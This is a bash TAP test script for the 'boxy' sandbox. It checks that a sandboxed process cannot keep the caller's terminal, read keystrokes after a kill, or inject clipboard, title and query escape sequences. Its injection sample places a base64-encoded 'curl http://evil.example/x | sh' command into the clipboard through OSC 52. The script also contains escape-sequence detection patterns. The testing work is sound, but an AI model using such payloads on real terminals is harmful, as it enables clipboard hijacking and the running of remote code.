#!/bin/bash
# terminal.sh — the caller's terminal and `boxy run`, as TAP, run as the
# unprivileged test user against a private daemon, with boxy on a real pty
# (tests/e2e/pty-harness.py: the pty is the session's controlling terminal
# and fds 0-2, the harness holds the master as a terminal emulator would).
#
# Attacks (a line saying ESCAPED when the attack worked):
#   - the payload holds a descriptor of the caller's terminal: its fds 0-2,
#     or its controlling terminal (/dev/tty with --tty), have the device of
#     the harness's pty, for `> log`, `| cat`, `< /dev/null`, and attached,
#     through the daemon and with --no-daemon;
#   - after the client is SIGKILLed, the payload still writes to the caller's
#     terminal, or reads what the user types into the host shell;
#   - the payload's OSC 52 (clipboard), titles (OSC 0/1/2, ESC k), DCS/APC/PM
#     strings and queries (DA, DSR, XTVERSION, DECRQSS, OSC 11) reach the
#     terminal (boxy run attached, boxy attach), and a terminal's late answer
#     waits in the host shell's input.
# What must keep working: `> log` and `| tee` get exactly the bytes, EOF
# through the pty, exit statuses, an interactive shell with colours, ^Z,
# less and vi on the alternate screen, --raw-terminal (and its audit line).

. "$(dirname "$0")/../lib/harness.sh"
harness_as_test_user "$0" "$@"
harness_locate

[ -x "$BOXY" ] || harness_die "no boxy binary at $BOXY"
for tool in python3 stat less vi; do
	command -v "$tool" >/dev/null || harness_die "$tool is needed (tools/deps.sh --test)"
done
PTY=$BOXY_SRCDIR/tests/e2e/pty-harness.py

SUITE=$(mktemp -d "${TMPDIR:-/tmp}/boxy-terminal.XXXXXX") || exit 99
chmod 0700 "$SUITE"
HARNESS_DIRS+=("$SUITE")
export XDG_RUNTIME_DIR=$SUITE/run XDG_STATE_HOME=$SUITE/state
mkdir -m 0700 "$XDG_RUNTIME_DIR" "$XDG_STATE_HOME"
W=$SUITE/work
mkdir "$W"
cd "$W" || exit 99
export TERM=xterm LANG=C.UTF-8

term_cleanup() {
	local p
	"$BOXY" stop -k >/dev/null 2>&1
	p=$("$BOXY" daemon status --json 2>/dev/null | sed -n 's/.*"pid":\([0-9]*\).*/\1/p')
	"$BOXY" daemon stop >/dev/null 2>&1
	[ -z "$p" ] || kill -KILL "$p" 2>/dev/null
	harness_cleanup
}
trap term_cleanup EXIT

# The probe: ESCAPED lines in ./verdict for each of fds 0-2 and the
# controlling terminal that is the device $1 (the harness's pty).
cat > "$W/probe.sh" <<'EOF'
rdev=$1
for fd in 0 1 2; do
	d=$(stat -L -c '%Hr:%Lr' /proc/$$/fd/$fd 2>/dev/null)
	[ "$d" != "$rdev" ] || echo "ESCAPED: the payload's fd $fd is the caller's terminal ($d)"
done >> verdict
# tty_nr, field 7 of /proc/PID/stat: the controlling terminal (what /dev/tty opens)
set -- $(cut -d' ' -f7 /proc/$$/stat)
nr=$1
d="$(( (nr >> 8) & 0xfff )):$(( (nr & 0xff) | ((nr >> 12) & 0xfff00) ))"
[ "$d" != "$rdev" ] || echo "ESCAPED: the payload's controlling terminal is the caller's ($d)" >> verdict
echo probed >> verdict
EOF

# After the kill: write to every fd and /dev/tty, and keep reading stdin and /dev/tty.
cat > "$W/leak.sh" <<'EOF'
cat > got-stdin 2>/dev/null &
cat < /dev/tty > got-tty 2>/dev/null &
touch ready
i=0
while [ $i -lt 50 ]; do
	for fd in 0 1 2; do printf 'LEAKW%s\n' $fd >&$fd 2>/dev/null; done
	printf 'LEAKTTY\n' 2>/dev/null > /dev/tty
	sleep 0.1
	i=$((i + 1))
done
EOF

# harness ARGS...: pty-harness.py with its exit status line in $STATUS.
harness() {
	STATUS=$(python3 "$PTY" --timeout 60 "$@" 2>"$SUITE/harness.err")
	[ -z "$(cat "$SUITE/harness.err")" ] || diag "$(cat "$SUITE/harness.err")"
}

# diag_cap FILE: a capture as TAP comments, controls made visible.
diag_cap() { [ -s "$1" ] && { head -c 2000 "$1" | cat -v; echo; } | head -n 20 | sed 's/^/#   | /'; }

# verdict_case DESC: ok unless ./verdict says ESCAPED or the probe did not run.
verdict_case() {
	if grep -q ESCAPED verdict 2>/dev/null; then
		not_ok "$1: $(grep ESCAPED verdict | head -n 3 | tr '\n' ' ')"
	elif ! grep -q probed verdict 2>/dev/null; then
		not_ok "$1: the probe did not run (status $STATUS)"
		diag_cap "$SUITE/cap"
		diag_cap log
	else
		ok "$1"
	fi
	rm -f verdict
}

B="$BOXY run --net none"

## ---- the payload never holds the caller's terminal ---------------------------
harness --rdev-file "$SUITE/rdev" --capture "$SUITE/cap" -- \
	"$B -- sh probe.sh \$(cat $SUITE/rdev) > log"
verdict_case "boxy run > log (stdin and stderr a terminal)"
harness --rdev-file "$SUITE/rdev" --capture "$SUITE/cap" -- \
	"$B -- sh probe.sh \$(cat $SUITE/rdev) | cat > log"
verdict_case "boxy run | cat (stdout a pipe)"
harness --rdev-file "$SUITE/rdev" --capture "$SUITE/cap" -- \
	"$B -- sh probe.sh \$(cat $SUITE/rdev) < /dev/null"
verdict_case "boxy run < /dev/null (stdout and stderr a terminal)"
harness --rdev-file "$SUITE/rdev" --capture "$SUITE/cap" -- \
	"$B --tty -- sh probe.sh \$(cat $SUITE/rdev) 2> err"
verdict_case "boxy run --tty 2> err (/dev/tty is the session's pty)"
harness --rdev-file "$SUITE/rdev" --capture "$SUITE/cap" -- \
	"$B --tty -- sh probe.sh \$(cat $SUITE/rdev)"
verdict_case "boxy run --tty attached"

harness --rdev-file "$SUITE/rdev" --capture "$SUITE/cap" -- \
	"$BOXY run --no-daemon --net none -- sh probe.sh \$(cat $SUITE/rdev) > log"
verdict_case "boxy run --no-daemon > log"
harness --rdev-file "$SUITE/rdev" --capture "$SUITE/cap" -- \
	"$BOXY run --no-daemon --net none --tty -- sh probe.sh \$(cat $SUITE/rdev)"
verdict_case "boxy run --no-daemon --tty attached"

## ---- a killed client leaves nothing of the terminal -----------------------------
rm -f ready got-stdin got-tty
harness --capture "$SUITE/cap" --kill-when "$W/ready" --type-after 'SECRETKEYS\r' --linger 3 \
	-- "exec $B --tty -- sh leak.sh > log"
if grep -aq LEAK "$SUITE/cap.after"; then
	not_ok "ESCAPED: after kill -9 of the client the payload still writes to the caller's terminal"
	diag "$(grep -ao 'LEAK[A-Z0-9]*' "$SUITE/cap.after" | sort | uniq -c | head -n 4)"
elif grep -aq SECRETKEYS got-stdin got-tty 2>/dev/null; then
	not_ok "ESCAPED: after kill -9 of the client the payload read what the user typed to the host shell"
elif [ "$STATUS" != killed ] || [ ! -e ready ]; then
	not_ok "the kill case did not run (status $STATUS)"
else
	ok "after kill -9 of the client (> log) the payload can neither write nor read the caller's terminal"
fi
"$BOXY" stop -k >/dev/null 2>&1

## ---- the output filter -----------------------------------------------------------
cat > "$W/inject.sh" <<'EOF'
printf 'BEGIN\n'
printf '\033]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\007'
printf '\033]0;pwned-title\007\033]2;pwned-title\033\\'
printf '\033kpwned-screen-title\033\\'
printf '\033P$qm\033\\\033_APC\033\\\033^PM\033\\'
printf '\033[c\033[>c\033[6n\033[>q\033]11;?\007\005'
printf '\233c'
printf '\033[31mRED\033[0m\n'
printf 'END\n'
EOF
harness --capture "$SUITE/cap" --answer 0.5 --pending "$SUITE/pending" -- "$B -- sh inject.sh"
found=
for pat in '\x1b\]52' '\x1b\]0;' '\x1b\]2;' '\x1bk' '\x1bP' '\x1b_' '\x1b\^' '\x1b\[c' '\x1b\[>c' \
	'\x1b\[6n' '\x1b\[>q' '\x1b\]11' '\x05' '\x9b'; do
	grep -aqP "$pat" "$SUITE/cap" && found="$found $pat"
done
if [ -n "$found" ]; then
	not_ok "ESCAPED: the payload's terminal sequences reached the terminal:$found"
elif ! grep -aq 'END' "$SUITE/cap" || ! grep -aqP '\x1b\[31mRED' "$SUITE/cap"; then
	not_ok "the filter case did not show the text and colours (status $STATUS)"
	diag "$(od -c "$SUITE/cap" | head -n 8)"
else
	ok "clipboard, titles, control strings and queries do not reach the terminal; SGR does"
fi
if [ -s "$SUITE/pending" ]; then
	not_ok "ESCAPED: the terminal's answers wait in the host shell's input: $(od -c "$SUITE/pending" | head -n 2 | tr '\n' ' ')"
else
	ok "no answer of the terminal is left for the host shell after the run"
fi

harness --capture "$SUITE/cap" -- "$BOXY run --no-daemon --net none -- sh -c 'sh inject.sh; exit 6'"
if grep -aqP '\x1b\]52|\x1b\]0;|\x1b\[6n|\x1b\[c|\x1bP' "$SUITE/cap"; then
	not_ok "ESCAPED: boxy run --no-daemon passes the payload's clipboard, title and query sequences"
elif ! grep -aq END "$SUITE/cap" || [ "$STATUS" != 6 ]; then
	not_ok "boxy run --no-daemon attached (status $STATUS)"
	diag_cap "$SUITE/cap"
else
	ok "boxy run --no-daemon filters the same way; exit status 6"
fi

id=$($B -d -- sh -c 'sh inject.sh; sleep 1; sh inject.sh' 2>"$SUITE/d.err")
harness --capture "$SUITE/cap" -- "$BOXY attach $id"
if grep -aqP '\x1b\]52|\x1b\]0;|\x1b\[6n|\x1b\[c|\x1bP' "$SUITE/cap"; then
	not_ok "ESCAPED: boxy attach passes the payload's clipboard, title and query sequences"
elif [ "$(grep -ac END "$SUITE/cap")" -lt 1 ] || [ "$STATUS" != 0 ]; then
	not_ok "boxy attach to a -d session (id '$id', status $STATUS)"
	diag_file "$SUITE/d.err"
	diag_cap "$SUITE/cap"
else
	ok "boxy attach filters the same way (the ring replayed and live output)"
fi

rm -f audit.jsonl
harness --capture "$SUITE/cap" -- "$B --raw-terminal --audit-log audit.jsonl -- sh inject.sh"
if grep -aqP '\x1b\]52' "$SUITE/cap" && grep -q '"raw-terminal"' audit.jsonl; then
	ok "--raw-terminal passes the output unfiltered, and the audit log records it"
else
	not_ok "--raw-terminal: unfiltered output and an audit line"
	diag_file audit.jsonl
fi

## ---- what must keep working ----------------------------------------------------------
printf 'a\nb\033]52;c;x\007\r\n\001' > "$SUITE/want"
harness --capture "$SUITE/cap" -- \
	"$B -- sh -c 'printf \"a\\\\nb\\\\033]52;c;x\\\\007\\\\r\\\\n\\\\001\"; exit 7' > log"
if cmp -s log "$SUITE/want" && [ "$STATUS" = 7 ]; then
	ok "boxy run > log: exactly the bytes (no CRLF, no filter), exit status 7"
else
	not_ok "boxy run > log: exactly the bytes and the exit status (status $STATUS)"
	diag "$(od -c log | head -n 4)"
fi
harness --capture "$SUITE/cap" -- \
	"$B -- sh -c 'printf \"x\\\\ny\\\\n\"; exit 3' | tee log; echo \"rc=\$?\" >> rc"
if [ "$(cat log)" = "$(printf 'x\ny')" ] && [ "$(wc -c < log)" = 4 ]; then
	ok "boxy run | tee log: exactly the bytes"
else
	not_ok "boxy run | tee log: exactly the bytes"
	diag "$(od -c log | head -n 4)"
fi
rm -f rc
harness --capture "$SUITE/cap" --send 'READY=hello\r' --send 'hello=\x04' -- \
	"$B -- sh -c 'echo READY >&2; cat' > log"
if [ "$(cat log)" = hello ] && [ "$STATUS" = 0 ]; then
	ok "stdin through the pty: typed input and ^D (EOF) reach cat, its output the file"
else
	not_ok "stdin through the pty, EOF (status $STATUS)"
	diag "$(od -c log | head -n 4)"
	diag_cap "$SUITE/cap"
fi

harness --capture "$SUITE/cap" --send '\$ $=printf "\\033[32mGREEN\\033[0m\\n"; exit 5\r' -- \
	"PS1='\$ ' $B -- sh -i"
if grep -aqP '\x1b\[32mGREEN' "$SUITE/cap" && [ "$STATUS" = 5 ]; then
	ok "an attached interactive shell: colours, exit status 5"
else
	not_ok "an attached interactive shell (status $STATUS)"
	diag "$(od -c "$SUITE/cap" | head -n 10)"
fi

harness --capture "$SUITE/cap" --send 'go=\x1a' -- "$B -- sh -c 'echo go; exec sleep 2'"
# A ^Z right after "started" often lands while sh is in vfork for sleep: the child stops
# alone, which stage 2 cannot see; the daemon's SIGCONT to the group must resume it.
for i in 1 2 3 4; do
	[ "$STATUS" = 0 ] || break
	python3 "$PTY" --timeout 15 --capture "$SUITE/cap" --send 'started=\x1a' -- \
		"$B -- sh -c 'echo started; sleep 1; echo finished'" > "$SUITE/zst" 2>&1
	STATUS=$(cat "$SUITE/zst")
done
if [ "$STATUS" = 0 ]; then
	ok "^Z goes to the session's pty; the run is not suspended and finishes (also in vfork)"
else
	not_ok "^Z (status $STATUS)"
	diag_cap "$SUITE/cap"
fi

seq 1 200 | sed 's/^/line /' > "$W/lines"
harness --capture "$SUITE/cap" --send 'line 1\r?\n=G' --send 'line 200=q' -- "$B -- less lines"
if [ "$STATUS" = 0 ] && grep -aqP '\x1b\[\?1049h' "$SUITE/cap" && grep -aqP '\x1b\[\?1049l' "$SUITE/cap" \
	&& grep -aq 'line 200' "$SUITE/cap"; then
	ok "less: alternate screen in and out, G shows the end, q exits"
else
	not_ok "less in an attached run (status $STATUS)"
	diag "$(od -c "$SUITE/cap" | tail -n 10)"
fi
harness --capture "$SUITE/cap" --send 'line 1=:q\r' -- "$B -- vi -u NONE lines"
if [ "$STATUS" = 0 ] && grep -aq 'line 1' "$SUITE/cap"; then
	ok "vi: draws the file, :q exits"
else
	not_ok "vi in an attached run (status $STATUS)"
	diag "$(od -c "$SUITE/cap" | tail -n 10)"
fi

done_testing
